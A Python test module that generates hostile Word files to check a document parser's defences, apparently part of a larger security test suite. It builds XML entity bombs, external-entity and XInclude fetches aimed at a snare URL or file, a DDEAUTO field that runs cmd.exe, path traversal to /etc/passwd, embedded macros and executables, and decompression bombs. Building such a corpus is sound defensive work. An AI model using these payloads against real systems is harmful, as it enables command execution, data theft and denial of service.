"""Word documents that fetch, embed, run, multiply or leave out parts of themselves."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from .archives import raw_zip, zipped
from .case import Case, Outcome, Snare, legible, spoiled
from .pdf_bombs import zeros
from .pictures import png

_NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package'
    '/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
    'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="bin" ContentType="application/octet-stream"/>'
    '<Default Extension="exe" ContentType="application/octet-stream"/>'
    '<Default Extension="html" ContentType="text/html"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_P = "<w:p><w:r><w:t>Facture de fournitures de bureau : 12,50 euros</w:t></w:r></w:p>"


def relations(*entries: tuple[str, str, str, bool]) -> str:
    """Return a part of relationships: id, kind, target, outside."""
    inner = "".join(
        f'<Relationship Id="{ident}" Type="{_REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if outside else "/>")
        for ident, kind, target, outside in entries
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{inner}</Relationships>'


def docx(
    body: str = _P,
    *,
    head: str = "",
    rels: str = "",
    more: Mapping[str, bytes] | None = None,
    without: tuple[str, ...] = (),
) -> bytes:
    """Return a Word document; ``head`` stands before the root, ``without`` names parts left out."""
    main = f'<?xml version="1.0"?>{head}<w:document {_NAMES}><w:body>{body}</w:body></w:document>'
    parts: dict[str, bytes] = {
        "[Content_Types].xml": _TYPES.encode(),
        "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml", False)).encode(),
        "word/document.xml": main.encode("utf-8", "surrogatepass"),
        "word/_rels/document.xml.rels": (rels or relations()).encode(),
        **(more or {}),
    }
    return zipped((name, data) for name, data in parts.items() if name not in without)


def words(snare: Snare) -> Iterator[Case]:
    """Yield hostile Word documents."""
    yield from _entities(snare)
    yield from _outside(snare)
    yield from _carried(snare)
    yield from _broken()
    yield from _large()


def _entities(snare: Snare) -> Iterator[Case]:
    kind = "word xml entities"
    steps = '<!ENTITY l0 "haha">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    )
    inside = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    either: tuple[Outcome, ...] = ("read", "unreadable", "too_large")
    yield Case(
        kind,
        "milliard de rires.docx",
        docx(inside.format("&l9;"), head=f"<!DOCTYPE d [{steps}]>"),
        either,
    )
    long = f'<!DOCTYPE d [<!ENTITY a "{"x" * 100_000}">]>'
    yield Case(
        kind,
        "entite longue cent mille fois.docx",
        docx(inside.format("&a;" * 100_000), head=long),
        either,
    )
    for name, target in (("fichier", f"file://{snare.path}"), ("adresse", snare.url)):
        yield Case(
            kind,
            f"entite externe ({name}).docx",
            docx(inside.format("&e;"), head=f'<!DOCTYPE d [<!ENTITY e SYSTEM "{target}">]>'),
            either,
        )
        yield Case(
            kind,
            f"definition externe ({name}).docx",
            docx(head=f'<!DOCTYPE d SYSTEM "{target}">'),
            either,
        )
    parameter = f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{snare.url}"> %p;]>'
    yield Case(kind, "entite de parametre.docx", docx(head=parameter), either)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{snare.url}"/>'
    yield legible(kind, "inclusion.docx", docx(_P + include))
    rels = f'<!DOCTYPE d [<!ENTITY e SYSTEM "{snare.url}">]>' + relations().replace(
        '<?xml version="1.0"?>', ""
    )
    yield Case(kind, "entite externe dans les liens.docx", docx(rels=rels), either)


def _outside(snare: Snare) -> Iterator[Case]:
    kind, url = "word external", snare.url
    blip = '<w:p><w:r><w:drawing><a:blip r:link="x1"/></w:drawing></w:r></w:p>'
    for name, sort, body in (
        ("image externe", "image", _P + blip),
        ("modele externe", "attachedTemplate", _P),
        (
            "objet externe",
            "oleObject",
            _P + '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="x1"/></w:object></w:r></w:p>',
        ),
        ("en-tete externe", "header", _P),
        ("sous-document", "subDocument", _P + '<w:subDoc r:id="x1"/>'),
        ("cadre", "frame", _P),
        ("morceau externe", "aFChunk", _P + '<w:altChunk r:id="x1"/>'),
        (
            "lien",
            "hyperlink",
            _P + '<w:hyperlink r:id="x1"><w:r><w:t>ici</w:t></w:r></w:hyperlink>',
        ),
    ):
        yield legible(kind, f"{name}.docx", docx(body, rels=relations(("x1", sort, url, True))))
    share = relations(("x1", "image", "file://127.0.0.1/partage/a.png", True))
    yield legible(kind, "image sur un partage.docx", docx(_P + blip, rels=share))
    kind = "word fields"
    for name, code in (
        ("commande", f'DDEAUTO c:\\\\windows\\\\cmd.exe "/c touch {snare.canary}"'),
        ("image", f'INCLUDEPICTURE "{url}" \\d'),
        ("texte", f'INCLUDETEXT "{snare.path}"'),
        ("base", f'DATABASE \\c "DSN={url}"'),
    ):
        quoted = code.replace('"', "&quot;")
        body = (
            f'{_P}<w:p><w:fldSimple w:instr="{quoted}"><w:r><w:t>!</w:t></w:r></w:fldSimple></w:p>'
        )
        yield legible(kind, f"champ {name}.docx", docx(body))


def _carried(snare: Snare) -> Iterator[Case]:
    kind = "word carries"
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + snare.canary.encode()
    yield legible(
        kind,
        "macros.docm",
        docx(
            rels=relations(("m", "vbaProject", "vbaProject.bin", False)),
            more={"word/vbaProject.bin": ole},
        ),
        "macros",
    )
    yield legible(
        kind,
        "objet inclus.docx",
        docx(
            _P + '<w:p><w:r><w:object><o:OLEObject Type="Embed" r:id="x1"/></w:object></w:r></w:p>',
            rels=relations(("x1", "oleObject", "embeddings/a.bin", False)),
            more={"word/embeddings/a.bin": ole},
        ),
    )
    yield legible(
        kind,
        "programme inclus.docx",
        docx(
            rels=relations(("x1", "package", "embeddings/a.exe", False)),
            more={"word/embeddings/a.exe": b"MZ" + ole},
        ),
    )
    page = b"<html><script>location='%b'</script><h1>x</h1></html>" % snare.url.encode()
    yield legible(
        kind,
        "page web incluse.docx",
        docx(
            _P + '<w:altChunk r:id="x1"/>',
            rels=relations(("x1", "aFChunk", "a.html", False)),
            more={"word/a.html": page},
        ),
    )
    climbing = {"../../../../tmp/a.txt": b"x", "/etc/a.txt": b"x"}
    yield legible(kind, "noms qui montent.docx", docx(more=climbing))
    blip = '<w:p><w:r><w:drawing><a:blip r:embed="x1"/></w:drawing></w:r></w:p>'
    huge = png(20_000, 20_000, 1, 0, zeros(48 << 20))
    yield legible(
        kind,
        "image de 20000 x 20000.docx",
        docx(
            _P + blip,
            rels=relations(("x1", "image", "media/a.png", False)),
            more={"word/media/a.png": huge},
        ),
    )


def _broken() -> Iterator[Case]:
    kind = "word broken"
    whole = docx()
    for share in (10, 50, 90):
        yield spoiled(kind, f"document coupe a {share}.docx", whole[: len(whole) * share // 100])
    for part in ("word/document.xml", "_rels/.rels"):
        name = part.replace("/", " ")
        yield spoiled(
            kind, f"sans {name}.docx", docx(without=(part,)), "unreadable", "unrecognised"
        )
    yield legible(kind, "sans liens.docx", docx(without=("word/_rels/document.xml.rels",)))
    nowhere = relations(("x1", "image", "media/absente.png", False))
    yield Case(kind, "lien vers rien.docx", docx(rels=nowhere), ("read", "unreadable"))
    around = relations(("x1", "header", "document.xml", False))
    yield Case(kind, "document qui est son en-tete.docx", docx(rels=around), ("read", "unreadable"))
    up = relations(("x1", "image", "../../../../../../etc/passwd", False))
    yield Case(kind, "lien qui monte.docx", docx(rels=up), ("read", "unreadable"))
    yield spoiled(kind, "texte mal ferme.docx", docx("<w:p><w:r><w:t>a</w:p>"))
    yield spoiled(
        kind, "octets de controle.docx", docx("<w:p><w:r><w:t>\x01\x02</w:t></w:r></w:p>")
    )
    other = docx().replace(b"word/", b"mots/")
    yield legible(kind, "dossier d'un autre nom.docx", other)
    odd = '<w:p><w:r><w:sym w:font="X" w:char="zzzz"/><w:t>a</w:t></w:r></w:p>'
    yield Case(kind, "signe sans numero.docx", docx(_P + odd), ("read", "unreadable"))


def _large() -> Iterator[Case]:
    kind = "word bomb"
    either: tuple[Outcome, ...] = ("read", "too_large", "unreadable")
    row = "<w:tr>" + "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * 60 + "</w:tr>"
    yield Case(
        kind,
        "tableau de cent vingt mille cases.docx",
        docx(_P + "<w:tbl>" + row * 2000 + "</w:tbl>"),
        either,
    )
    span = (
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc>'
        "</w:tr></w:tbl>"
    )
    yield Case(kind, "case de deux milliards de colonnes.docx", docx(_P + span), either)
    for depth in (200, 5000):
        inner = "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
        yield Case(kind, f"{depth} tableaux emboites.docx", docx(_P + inner), either)
    yield Case(kind, "deux cent mille paragraphes.docx", docx(_P * 200_000), either)
    runs = "<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 300_000 + "</w:p>"
    yield Case(kind, "paragraphe de trois cent mille morceaux.docx", docx(runs), either)
    breaks = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>' * 20_000
    yield Case(kind, "vingt mille pages.docx", docx(_P + breaks), either)
    sdt = "<w:sdt><w:sdtContent>" * 3000 + _P + "</w:sdtContent></w:sdt>" * 3000
    yield Case(kind, "trois mille champs emboites.docx", docx(sdt), either)
    xml = raw_zip(b"word/document.xml", zeros(1 << 30, b" ")[2:-4], 1 << 30)
    yield spoiled(kind, "partie demesuree.docx", xml, "too_large", "unreadable")
    lying = raw_zip(b"word/document.xml", zeros(1 << 30, b" ")[2:-4], 900)
    yield spoiled(kind, "partie qui dit neuf cents octets.docx", lying, "too_large", "unreadable")
    many = {f"word/media/{n}.bin": b"x" for n in range(5000)}
    yield spoiled(kind, "cinq mille parties.docx", docx(more=many), "too_large")
